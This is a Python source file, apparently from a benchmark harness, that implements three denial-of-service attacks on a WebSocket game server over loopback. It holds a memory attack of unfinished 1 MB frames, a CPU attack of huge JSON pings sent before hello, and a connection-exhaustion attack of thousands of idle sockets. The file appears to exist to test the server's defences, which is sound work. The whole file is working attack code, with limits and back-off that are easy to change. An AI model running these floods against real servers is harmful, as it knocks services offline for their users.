"""The attacker process: one of three abuses of the server, at the socket level, until told to stop.

    python -m bench.abuse.attacks KIND --port P [--source 127.0.0.2[,...]] [--plan JSON] [--max-s 300]

KIND is one of:
- `memory`: rounds of `spectators` WebSocket spectators that each send one text frame of
  `message_bytes` with FIN=0 (a message they never finish), hold it `hold_s`, and vanish (TCP reset);
  rounds alternate ASCII and emoji (4-byte UTF-8) payloads.
- `cpu`: `pingers` connections that each send, `ping_hz` times a second and before any hello,
  `{"type": "ping", ...}` with `ping_keys` extra keys (about 800 KB of JSON); a connection the server
  closes is opened again at the next beat.
- `connections`: `raw_idle` TCP connections that never send a byte, and `ws_idle` WebSocket
  spectators that never say hello (their server pings are answered); each one the server ends is
  opened again after a back-off (0.25 s, doubling to 4 s while the server keeps ending them at once).

It prints `{"ready": ...}` once the attack is in place (the first round sent, every pinger's first
message sent, every connection tried once; or after `READY_S` at the latest), then, once a line or
EOF comes on stdin (or `--max-s` passes), closes everything and prints its tally (bench/abuse/wire.py)
as one JSON line. Connections come from `--source`: loopback addresses other than the agents' and the
health probe's 127.0.0.1 (so that a per-address cap on the server meets the attacker alone), taken in
turn by the connection slots when there are several (a crowd of addresses, for a global cap). The
process raises its own open-file soft limit to the hard limit first.
"""

from __future__ import annotations

import argparse
import json
import os
import resource
import string
import sys
import time
from collections.abc import Awaitable, Callable
from dataclasses import asdict, dataclass
from typing import Any

import trio

from bench.abuse.wire import OP_TEXT, Link, Tally, client_frame

KINDS = ("memory", "cpu", "connections")
READY_S = 60.0  # the longest the attack takes to be in place before the game starts anyway
OPENING = 256  # connections being opened (TCP + handshake) at once
ROUND_S = 60.0  # bound on one memory round's connecting and sending
BACKOFF_S = (0.25, 4.0)  # reconnection delay of an idle connection the server ended: first, longest
QUICK_END_S = 1.0  # a connection ended sooner than this after opening makes the next delay double
MAX_ATTEMPTS = 1000  # per idle connection slot, per memory round count, per pinger: everything is bounded
EMOJI = "\N{GRINNING FACE}".encode()  # 4 bytes of UTF-8, 1 character


@dataclass(frozen=True)
class Plan:
    """The size of each attack (defaults: the figures of the findings)."""

    spectators: int = 1000
    message_bytes: int = 1_000_000
    hold_s: float = 1.0
    max_rounds: int = 20
    pingers: int = 16
    ping_keys: int = 100_000
    ping_hz: float = 2.0
    raw_idle: int = 1500
    ws_idle: int = 1500

    def scaled(self, factor: float) -> Plan:
        """The same attack with `factor` times the connections (at least one of each)."""

        def n(count: int) -> int:
            return max(1, round(count * factor))

        return Plan(
            **{
                **asdict(self),
                "spectators": n(self.spectators),
                "pingers": n(self.pingers),
                "raw_idle": n(self.raw_idle),
                "ws_idle": n(self.ws_idle),
            }
        )


def ping_text(keys: int) -> bytes:
    """A ping frame's JSON with `keys` extra keys of three characters (8 bytes each: `"abc":0,`)."""
    alphabet = string.ascii_letters + string.digits
    base = len(alphabet)
    names = (
        alphabet[i // base // base % base] + alphabet[i // base % base] + alphabet[i % base]
        for i in range(keys)
    )
    extra = ",".join(f'"{name}":0' for name in names)
    return ('{"type":"ping","nonce":"n"' + ("," + extra if extra else "") + "}").encode()


class Countdown:
    """An event set once `n` distinct parties have checked in."""

    def __init__(self, n: int) -> None:
        """Nobody has checked in yet."""
        self.left = n
        self.seen: set[int] = set()
        self.done = trio.Event()
        if n <= 0:
            self.done.set()

    def check_in(self, who: int) -> None:
        """Party `who` is done (again: no effect)."""
        if who not in self.seen:
            self.seen.add(who)
            self.left -= 1
            if self.left <= 0:
                self.done.set()


async def first_of(*events: trio.Event) -> None:
    """Return as soon as any of the events is set."""
    async with trio.open_nursery() as nursery:
        for event in events:

            async def wait(event: trio.Event = event) -> None:
                await event.wait()
                nursery.cancel_scope.cancel()

            nursery.start_soon(wait)


# ---------------------------------------------------------------------------------------- attacks


async def watch_ws(link: Link) -> None:
    """Watch a WebSocket link nothing else reads (pings not answered: another task sends on it)."""
    await link.watch(websocket=True)


async def memory(
    port: int, sources: list[str], plan: Plan, tallies: dict[str, Tally], ready: trio.Event
) -> None:
    """Rounds of spectators sending unfinished messages, then vanishing."""
    tally = tallies.setdefault("spectators", Tally())
    frames = (
        client_frame(OP_TEXT, b"A" * plan.message_bytes, fin=False),
        client_frame(OP_TEXT, EMOJI * (plan.message_bytes // len(EMOJI)), fin=False),
    )
    limiter = trio.CapacityLimiter(OPENING)

    async def spectator(path: str, frame: bytes, sent: Countdown, who: int, release: trio.Event) -> None:
        link = Link(tally)
        try:
            async with limiter:
                opened = await link.open(port, sources[who % len(sources)], path)
            if opened:
                async with trio.open_nursery() as inner:
                    inner.start_soon(watch_ws, link)
                    if await link.send(frame):
                        tally.messages += 1
                    sent.check_in(who)
                    await first_of(release, link.ended)
                    inner.cancel_scope.cancel()
        finally:
            sent.check_in(who)
            link.close()

    tally.extra["rounds"] = 0
    for number in range(min(plan.max_rounds, MAX_ATTEMPTS)):
        sent, release = Countdown(plan.spectators), trio.Event()
        tally.extra["rounds"] = number + 1  # rounds started
        async with trio.open_nursery() as nursery:
            for i in range(plan.spectators):
                path = f"/ws/mem{number}-{i}?client_type=ui"
                nursery.start_soon(spectator, path, frames[number % 2], sent, i, release)
            with trio.move_on_after(ROUND_S):
                await sent.done.wait()
            ready.set()
            await trio.sleep(plan.hold_s)
            release.set()


async def cpu(
    port: int, sources: list[str], plan: Plan, tallies: dict[str, Tally], ready: trio.Event
) -> None:
    """Pingers sending huge pings before hello, at a steady beat, reconnecting when closed."""
    tally = tallies.setdefault("pingers", Tally())
    text = ping_text(plan.ping_keys)
    tally.extra["message_bytes"] = len(text)
    frame = client_frame(OP_TEXT, text)
    first = Countdown(plan.pingers)
    period = 1.0 / plan.ping_hz

    async def pinger(i: int) -> None:
        link: Link | None = None
        beat = trio.current_time()
        try:
            async with trio.open_nursery() as nursery:
                for _ in range(MAX_ATTEMPTS):
                    if link is None or link.ended.is_set():
                        if link is not None:
                            link.close()
                        link = Link(tally)
                        path = f"/ws/cpu-{i}?client_type=ui"
                        if await link.open(port, sources[i % len(sources)], path):
                            nursery.start_soon(watch_ws, link)
                    if not link.ended.is_set() and await link.send(frame):
                        tally.messages += 1
                    first.check_in(i)
                    beat += period
                    await trio.sleep_until(beat)
                nursery.cancel_scope.cancel()
        finally:
            first.check_in(i)
            if link is not None:
                link.close()

    async with trio.open_nursery() as nursery:
        for i in range(plan.pingers):
            nursery.start_soon(pinger, i)
        await first.done.wait()
        ready.set()


async def connections(
    port: int, sources: list[str], plan: Plan, tallies: dict[str, Tally], ready: trio.Event
) -> None:
    """Idle raw TCP connections and idle WebSocket spectators, each reopened when the server ends it."""
    limiter = trio.CapacityLimiter(OPENING)
    # The spectators first, every one tried once before the first raw connection: raw connections opened
    # first take the address's handshake slots (they never send a request) and every spectator then gets
    # 503, which is the server holding, not the attack. Trio may start a batch of new tasks in either
    # order, so the order is made explicit: spectators first is the heavier case, and the same every run.
    slots: list[tuple[str, str | None]] = [
        ("ws", f"/ws/idle-{i}?client_type=ui") for i in range(plan.ws_idle)
    ]
    slots += [("raw", None)] * plan.raw_idle
    first = Countdown(len(slots))
    spectators_tried = Countdown(plan.ws_idle)

    async def slot(number: int, name: str, path: str | None) -> None:
        tally = tallies.setdefault(name, Tally())
        delay = BACKOFF_S[0]
        for _ in range(MAX_ATTEMPTS):
            link = Link(tally)
            started = trio.current_time()
            try:
                async with limiter:
                    opened = await link.open(port, sources[number % len(sources)], path)
                first.check_in(number)
                if path is not None:
                    spectators_tried.check_in(number)
                started = trio.current_time()
                if opened:
                    await link.watch(websocket=path is not None, pong=True)
            finally:
                first.check_in(number)
                if path is not None:
                    spectators_tried.check_in(number)
                link.close()
            quick = trio.current_time() - started < QUICK_END_S
            delay = min(delay * 2, BACKOFF_S[1]) if quick else BACKOFF_S[0]
            await trio.sleep(delay)

    tallies.setdefault("raw", Tally())
    tallies.setdefault("ws", Tally())
    async with trio.open_nursery() as nursery:
        for number, (name, path) in enumerate(slots):
            if number == plan.ws_idle:
                await spectators_tried.done.wait()
            nursery.start_soon(slot, number, name, path)
        await first.done.wait()
        ready.set()


ATTACKS: dict[str, Callable[[int, list[str], Plan, dict[str, Tally], trio.Event], Awaitable[None]]] = {
    "memory": memory,
    "cpu": cpu,
    "connections": connections,
}


# ---------------------------------------------------------------------------------------- process


def raise_open_files() -> int:
    """Raise this process's soft limit on open files to the hard limit; returns the new soft limit."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if hard == resource.RLIM_INFINITY or soft < hard:
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    return resource.getrlimit(resource.RLIMIT_NOFILE)[0]


def emit(report: dict[str, Any]) -> None:
    sys.stdout.write(json.dumps(report) + "\n")
    sys.stdout.flush()


async def run(kind: str, port: int, sources: list[str], plan: Plan, max_s: float) -> dict[str, Any]:
    """Run one attack until stdin says stop (a line or EOF) or `max_s` passes; its tallies."""
    tallies: dict[str, Tally] = {}
    ready = trio.Event()
    start = trio.current_time()
    stdin = trio.lowlevel.FdStream(os.dup(sys.stdin.fileno()))
    ready_after: float | None = None

    async def announce() -> None:
        nonlocal ready_after
        with trio.move_on_after(READY_S):
            await ready.wait()
        ready_after = trio.current_time() - start
        emit({"ready": ready.is_set(), "after_s": round(ready_after, 3), "tallies": snapshot(tallies)})

    async with trio.open_nursery() as nursery:
        nursery.start_soon(ATTACKS[kind], port, sources, plan, tallies, ready)
        nursery.start_soon(announce)
        with trio.move_on_after(max_s):
            await stdin.receive_some(1)  # any line, or EOF: stop
        nursery.cancel_scope.cancel()
    await stdin.aclose()
    return {
        "kind": kind,
        "seconds": round(trio.current_time() - start, 3),
        "ready_s": ready_after,
        "tallies": snapshot(tallies),
    }


def snapshot(tallies: dict[str, Tally]) -> dict[str, Any]:
    return {name: tally.as_dict() for name, tally in tallies.items()}


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("kind", choices=KINDS)
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--source", default="127.0.0.2", help="loopback address(es) the attack comes from")
    parser.add_argument("--plan", default="{}", help="Plan fields as JSON (defaults: the findings' sizes)")
    parser.add_argument("--max-s", type=float, default=300.0, help="stop by then whatever happens")
    args = parser.parse_args(argv)
    limit = raise_open_files()
    started = time.monotonic()
    sources = [a for a in args.source.split(",") if a]
    report = trio.run(run, args.kind, args.port, sources, Plan(**json.loads(args.plan)), args.max_s)
    report["open_files_limit"] = limit
    report["wall_s"] = round(time.monotonic() - started, 3)
    emit(report)
    return 0


if __name__ == "__main__":
    sys.exit(main())
